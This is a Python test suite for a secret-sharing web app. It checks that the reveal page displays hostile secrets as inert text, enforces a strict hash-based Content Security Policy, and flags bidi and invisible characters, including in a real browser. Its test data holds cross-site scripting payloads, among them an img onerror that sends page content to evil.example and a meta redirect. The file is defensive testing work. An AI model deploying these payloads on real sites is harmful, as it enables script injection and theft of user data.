"""The reveal page survives hostile secrets: markup, attributes, long lines, bidi tricks.

Each secret is shared through the API and revealed through the page, over real
HTTP. The page is then parsed: the secret must come back exactly (nothing lost
or changed), as text inside the <pre> and nowhere else, and the page must hold
only our own elements and the one script whose hash the CSP allows.
"""

from __future__ import annotations

import base64
import hashlib
import html
import json
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest

from bot.backends.embedded import EmbeddedStore
from bot.backends.storage.sqlite_storage import SQLiteStorage
from bot.config import Settings
from bot.web.app import build_app
from tests.support.browser import is_problem, open_tab
from tests.support.servers import ServedApp, app_store_of

HOSTILE = {
    "script": "<script>alert(document.cookie)</script>",
    "closing-pre": "</pre><script>alert(1)</script><pre>",
    "attribute": '" onmouseover="alert(1)" x="',
    "single-quoted": "' autofocus onfocus='alert(1)",
    "img": '<img src=x onerror="fetch(\'//evil.example/\'+document.body.innerHTML)">',
    "svg": "<svg/onload=alert(1)>",
    "comment": "<!-- --><script>alert(1)</script>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#x3C;",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": "<style>body{display:none}</style>",
    "javascript-url": "javascript:alert(1)",
    "template": "{{7*7}} ${7*7} <%= 7*7 %>",
    "long-line": "A" * 9_000,
    "long-word-and-lines": ("x" * 2_000 + "\n") * 4,
    "rtl-override": "\u202etxt.exe\u202c and \u202bمرحبا\u202c then \u2067isolated\u2069",
    "hebrew-arabic": "סיסמה: p@ss ‏كلمة السر‎ 123",
    "zero-width": "pass\u200bword\u200d\ufeff",
    "control": "tab\there\rcarriage\x0bvertical\x1bescape",
    "trailing-newline": "line one\nline two\n",
    "leading-newline": "\nthe first line is empty",
    "crlf": "windows\r\nline endings\r\nand a lone\rcarriage return",
}

ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "main", "h1", "p", "pre",
                "button", "script", "strong"}


class PageParts(HTMLParser):
    """Every element and attribute of a page, the text of <pre>, the scripts' sources."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[str] = []
        self.pre: list[str] = []
        self.scripts: list[str] = []
        self._in: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [name for name, _ in attrs]
        if tag not in ("meta",):
            self._in.append(tag)
        if tag == "script":
            self.scripts.append("")

    def handle_endtag(self, tag: str) -> None:
        if self._in and self._in[-1] == tag:
            self._in.pop()

    def handle_data(self, data: str) -> None:
        if self._in and self._in[-1] == "pre":
            if not self.pre and data.startswith("\n"):
                data = data[1:]  # as browsers do: one newline after <pre> is dropped
            self.pre.append(data)
        if self._in and self._in[-1] == "script":
            self.scripts[-1] += data


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServedApp]:
    path: Path = tmp_path_factory.mktemp("hostile")
    store = EmbeddedStore(SQLiteStorage(path / "s.sqlite3"), public_url="http://ots.test")
    settings = Settings.from_env({"DATA_DIR": str(path)})
    with ServedApp(build_app(settings, store, app_store_of(store))) as served:
        yield served


@pytest.fixture(scope="module")
def http(server: ServedApp) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=server.url) as client:
        yield client


def reveal_page(http: httpx.Client, secret: str) -> httpx.Response:
    created = http.post("/api/v1/share", data={"secret": secret})
    assert created.status_code == 200, created.text
    key = created.json()["secret_key"]
    assert "Reveal secret" in http.get(f"/secret/{key}").text
    return http.post(f"/secret/{key}")


def csp_hash(source: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(source.encode()).digest()).decode() + "'"


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_secret_renders_as_inert_text(http: httpx.Client, name: str) -> None:
    secret = HOSTILE[name]
    response = reveal_page(http, secret)
    assert response.status_code == 200

    page = PageParts()
    page.feed(response.text)
    page.close()
    # The secret is the text of the <pre>, exactly: nothing run, nothing lost.
    assert "".join(page.pre) == secret
    # Only our own elements, no event handlers, and the one script the CSP allows.
    assert set(page.tags) <= ALLOWED_TAGS, set(page.tags) - ALLOWED_TAGS
    assert page.tags.count("script") == 1 and page.tags.count("pre") == 1
    assert not [a for a in page.attributes if a.startswith("on")]
    policy = response.headers["content-security-policy"]
    assert csp_hash(page.scripts[0]) in policy
    # In the raw HTML, every markup character of the secret is escaped, and a CR
    # is a character reference (browsers would read a literal CR as LF).
    escaped = html.escape(secret, quote=True).replace("\r", "&#13;")
    assert escaped in response.text
    assert "\r" not in response.text
    for dangerous in ("<script>alert", "<svg", "<img", "<meta http-equiv", "<style>body"):
        if dangerous in secret:
            assert dangerous not in response.text


def test_the_policy_lets_nothing_else_run(http: httpx.Client) -> None:
    response = reveal_page(http, "<script>alert(1)</script>")
    directives = dict(
        (part.strip().split(" ", 1) + [""])[:2]
        for part in response.headers["content-security-policy"].split(";")
    )
    assert directives["default-src"] == "'none'"
    assert directives["base-uri"] == "'none'"
    assert directives["frame-ancestors"] == "'none'"
    assert directives["form-action"] == "'self'"
    for kind in ("script-src", "style-src"):
        sources = directives[kind].split()
        assert len(sources) == 1 and sources[0].startswith("'sha256-"), directives[kind]
    assert "unsafe" not in response.headers["content-security-policy"]
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-type"] == "text/html; charset=utf-8"
    assert response.headers["x-frame-options"] == "DENY"


def test_bidi_text_is_isolated_to_the_secret(http: httpx.Client) -> None:
    # An unclosed right-to-left override must not flip the page around it: the
    # <pre> takes its direction from its own text (unicode-bidi: plaintext), and a
    # block ends every embedding at its edge.
    response = reveal_page(http, "\u202eevil")
    style = response.text.split("<style>", 1)[1].split("</style>", 1)[0]
    pre_rule = style.split("pre{", 1)[1].split("}", 1)[0]
    assert "unicode-bidi:plaintext" in pre_rule
    assert "white-space:pre-wrap" in pre_rule and "overflow-wrap:anywhere" in pre_rule
    after = response.text.split("</pre>", 1)[1]
    assert "\u202e" not in after


@pytest.mark.parametrize(
    ("secret", "warned"),
    [(HOSTILE["rtl-override"], True), (HOSTILE["zero-width"], True), ("\u2066a\u2069", True),
     ("סיסמה بسيطة", False), (HOSTILE["script"], False), (HOSTILE["control"], False)],
)
def test_invisible_and_direction_characters_are_pointed_out(
    http: httpx.Client, secret: str, warned: bool
) -> None:
    # "\u202etxt.exe" displays as "exe.txt": the page says the text is not what it looks.
    response = reveal_page(http, secret)
    notice = "contains invisible or text-direction characters" in response.text
    assert notice is warned


@pytest.mark.parametrize(
    "path",
    ["/secret/%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/secret/%E2%80%AE" + "a" * 31,
     "/secret/" + "a" * 5000],
)
def test_hostile_links_get_the_plain_not_found_page(http: httpx.Client, path: str) -> None:
    for response in (http.get(path), http.post(path)):
        assert response.status_code == 404
        assert "<script" not in response.text.lower()
        assert "alert(" not in response.text


# -- in a real browser (Debian's chromium, when installed) ------------------------------

# Where a browser parses differently from html.parser (newlines, CR, markup, bidi).
BROWSER_CASES = ["closing-pre", "attribute", "img", "svg", "meta", "rtl-override", "control",
                 "leading-newline", "crlf"]
BROWSER_CHECK = """JSON.stringify({
  text: document.getElementById('secret').textContent,
  tags: [...new Set([...document.querySelectorAll('*')].map(e => e.localName))],
  scripts: document.scripts.length,
  handlers: [...document.querySelectorAll('*')].flatMap(
    e => [...e.attributes].map(a => a.name)).filter(n => n.startsWith('on')),
  title: document.title,
})"""


async def reveal_in_browser(devtools: str, link: str) -> tuple[dict[str, Any], list[str]]:
    async with open_tab(devtools) as tab:
        await tab.call("Page.navigate", url=link)
        await tab.until("Page.loadEventFired")
        await tab.evaluate("document.querySelector('form').requestSubmit()")  # the button
        await tab.until("Page.loadEventFired")
        seen = json.loads(await tab.evaluate(BROWSER_CHECK))
        problems = [str(e["params"]) for e in tab.events if is_problem(e)]
    return seen, problems


def test_in_a_real_browser_hostile_secrets_are_inert_and_copy_exactly(
    http: httpx.Client, server: ServedApp, chromium: str
) -> None:
    import asyncio

    for name in BROWSER_CASES:
        secret = HOSTILE[name]
        created = http.post("/api/v1/share", data={"secret": secret})
        link = f"{server.url}/secret/{created.json()['secret_key']}"
        seen, problems = asyncio.run(reveal_in_browser(chromium, link))
        # What the Copy button copies is the secret, byte for byte.
        assert seen["text"] == secret, name
        assert seen["title"] == "Your secret", name
        assert set(seen["tags"]) <= ALLOWED_TAGS, (name, seen["tags"])
        assert seen["scripts"] == 1 and seen["handlers"] == [], name
        # No alert, no exception, and no CSP violation: our own style and script
        # match their hashes, and nothing else tried to run.
        assert problems == [], (name, problems)
